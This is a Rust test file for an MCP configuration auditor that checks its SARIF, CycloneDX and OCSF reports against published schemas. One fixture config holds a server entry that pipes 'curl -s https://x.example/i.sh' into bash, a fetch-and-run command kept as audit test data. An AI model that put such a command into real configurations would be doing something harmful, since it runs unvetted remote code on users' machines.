//! Formats of others against their published schemas, which are looked for in the folder that TSUBA_SCHEMAS names, into which
//! `conformance/schemas/install` has fetched them; where they are not, that is said.

use crate::util::Dir;
use serde_json::Value;
use std::path::PathBuf;

/// The published schema of a format.
fn schema(name: &str) -> Option<jsonschema::Validator> {
    let folder = std::env::var_os("TSUBA_SCHEMAS").map(PathBuf::from);
    let text = folder.and_then(|folder| std::fs::read_to_string(folder.join(name)).ok());
    if text.is_none() {
        eprintln!("skipped: {name} is not here (TSUBA_SCHEMAS; conformance/schemas/install)");
    }
    let schema: Value = serde_json::from_str(&text?).unwrap();
    Some(jsonschema::options().should_validate_formats(true).build(&schema).unwrap())
}

/// Reports of the demo company, with everything that a report can have, and of a folder of odd names.
fn reports() -> Vec<Dir> {
    let demo = Dir::new(&[]);
    assert_eq!(demo.run(&["demo", "--unpack", "company"]).status(), 0);
    let odd = Dir::new(&[
        (
            "company/a b/ü<&>.json",
            r#"{ "mcpServers": { "": { "command": "npx", "args": ["-y", "@x/y@^1 || 2"] }, "<&\"": { "url": "https://{host}/a b?k=v" }, "i": { "command": "docker", "args": ["run", "reg.example:5000/a/b@sha256:zz"] } } }"#,
        ),
        (
            "company/go.json",
            r#"{ "mcpServers": { "g": { "command": "go", "args": ["run", "code.example/x/y@latest"] }, "u": { "command": "uvx", "args": ["--from", "git+https://code.example/x/y@main", "y"] }, "b": { "command": "bash", "args": ["-c", "curl -s https://x.example/i.sh | bash"] } } }"#,
        ),
        ("company/broken.mcp.json", "{ \"mcpServers\": { \"a\": {"),
        ("company/tsuba.toml", ""),
        ("company/evidence/none.txt", ""),
    ]);
    vec![demo, odd]
}

/// Each report in a format.
fn written(format: &str) -> Vec<String> {
    let of = |dir: &Dir| {
        let mut args = vec!["audit", ".", "--config", "tsuba.toml", "--evidence", "evidence", "--format", format];
        if dir.path("company/tsuba-register.toml").exists() {
            args.extend(["--register", "tsuba-register.toml"]);
        }
        dir.run_in("company", &args).out()
    };
    reports().iter().map(of).collect()
}

/// The same of a company of both, at two dates, on the second of which some of it is fixed.
fn exported(format: &str) -> String {
    let [demo, odd] = &reports()[..] else { panic!("two") };
    let report = |dir: &Dir, day: &str, to: &str| {
        let args = ["audit", ".", "--config", "tsuba.toml", "--as-of", day, "--format", "json", "--output", to];
        assert_eq!(dir.run_in("company", &args).status(), 1);
    };
    report(demo, "2026-11-02", "../one.json");
    assert_eq!(demo.run_in("company", &["repair", ".", "--config", "tsuba.toml", "--apply"]).status(), 0);
    report(demo, "2026-11-09", "../two.json");
    let third = demo.path("three.json").display().to_string();
    report(odd, "2026-11-09", &third);
    assert_eq!(demo.run(&["company", "add", "one.json", "two.json", "three.json"]).status(), 0);
    let run = demo.run(&["company", "export", "--format", format, "--as-of", "2026-11-10"]);
    assert_eq!(run.status(), 0, "{}", run.err());
    run.out()
}

fn assert_valid(schema: &jsonschema::Validator, value: &Value) {
    let mistakes: Vec<String> =
        schema.iter_errors(value).take(5).map(|error| format!("{}: {error}", error.instance_path())).collect();
    assert!(mistakes.is_empty(), "{mistakes:#?}");
}

#[test]
fn sarif_is_as_its_schema_says() {
    let Some(schema) = schema("sarif.json") else { return };
    for text in written("sarif") {
        assert_valid(&schema, &serde_json::from_str(&text).unwrap());
    }
}

#[test]
fn a_bill_of_materials_is_as_its_schema_says() {
    let Some(schema) = schema("cyclonedx.json") else { return };
    for text in written("cyclonedx").into_iter().chain([exported("cyclonedx")]) {
        assert_valid(&schema, &serde_json::from_str(&text).unwrap());
    }
}

#[test]
fn events_are_as_their_class_says() {
    let Some(schema) = schema("ocsf.json") else { return };
    for line in written("ocsf").iter().chain([&exported("ocsf")]).flat_map(|text| text.lines()) {
        assert_valid(&schema, &serde_json::from_str(line).unwrap());
    }
}
